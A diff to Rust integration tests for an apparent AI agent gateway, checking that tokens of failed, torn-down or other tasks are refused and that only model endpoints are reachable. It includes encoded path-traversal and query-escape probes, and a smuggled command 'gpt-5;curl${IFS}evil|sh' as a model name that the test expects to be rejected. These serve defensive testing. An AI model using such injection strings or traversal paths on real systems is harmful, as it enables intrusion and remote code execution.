@@ -250,15 +250,70 @@ async fn tokens_that_are_unknown_torn_down_or_of_a_stopped_task_get_nothing() {
     );
     // Another task's box holds another token; the callback token is not a gateway token.
     let (other, other_token) = working_task(&app, &admin).await;
-    assert_ne!(other_token, token);
     assert_eq!(post(Some(token.clone())).await.unwrap().status(), 200);
     // A failed task's box is kept for the grace period, but its agent may not call models.
-    let (status, _) = admin
-        .post(&format!("/api/v1/tasks/{other}/agent/cancel"), json!({}))
-        .await;
-    assert_eq!(status, 200);
+    app.orch
+        .transition(
+            apiary_store::TransitionRequest::new(
+                &other,
+                apiary_core::AgentStatus::Failed,
+                apiary_store::Actor::System,
+            )
+            .with_error("test"),
+        )
+        .await
+        .unwrap();
+    assert!(!app.store.get_task(&other).await.unwrap().box_torn_down);
     let r = post(Some(other_token)).await.unwrap();
-    assert!(r.status() == 401 || r.status() == 403, "{}", r.status());
+    assert_eq!(r.status(), 403);
+    let body: Value = r.json().await.unwrap();
+    assert!(
+        body["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("failed"),
+        "{body}"
+    );
+    // Only model requests pass: no files, batches or escapes, whatever the method.
+    for (method, path) in [
+        (
+            reqwest::Method::GET,
+            "/gateway/openai/v1/files/file-1/content",
+        ),
+        (reqwest::Method::POST, "/gateway/openai/v1/batches"),
+        (
+            reqwest::Method::POST,
+            "/gateway/openai/v1/chat/completions%3Fx=1",
+        ),
+        (
+            reqwest::Method::POST,
+            "/gateway/anthropic/v1/messages/batches",
+        ),
+        (
+            reqwest::Method::POST,
+            "/gateway/anthropic/v1/..%2Fv1%2Ffiles",
+        ),
+    ] {
+        let r = http()
+            .request(method.clone(), format!("{}{path}", app.base))
+            .header("x-api-key", &token)
+            .bearer_auth(&token)
+            .json(&json!({"model": "m", "stream": true}))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 403, "{method} {path}");
+    }
+    // The callback token opens nothing here.
+    let (_, _, callback_tokens) =
+        provisioned_task(&app, &admin, &ControlPlane::default().start().await).await;
+    assert_eq!(
+        post(Some(callback_tokens.callback_token))
+            .await
+            .unwrap()
+            .status(),
+        401
+    );
     // Torn down: the token is dead.
     app.store.detach_box(&tid, false).await.unwrap();
     assert_eq!(post(Some(token)).await.unwrap().status(), 401);
@@ -317,6 +372,14 @@ async fn a_task_over_its_budget_fails_and_nothing_past_it_is_forwarded() {
     let (_, usage) = admin.get(&format!("/api/v1/tasks/{tid}/agent/usage")).await;
     assert_eq!(usage["budget_usd"], 1.0);
     let (member, user) = app.member("m@example.test").await;
+    let (status, body) = admin
+        .patch(
+            &format!("/api/v1/projects/{pid}/gateway"),
+            json!({"model": "gpt-5;curl${IFS}evil|sh"}),
+        )
+        .await;
+    assert_eq!(status, 400, "{body}");
+    assert_eq!(body["error"]["field"], "agent.gateway.model");
     let (status, _) = admin
         .put(
             &format!("/api/v1/projects/{pid}/members/{}", user.id),
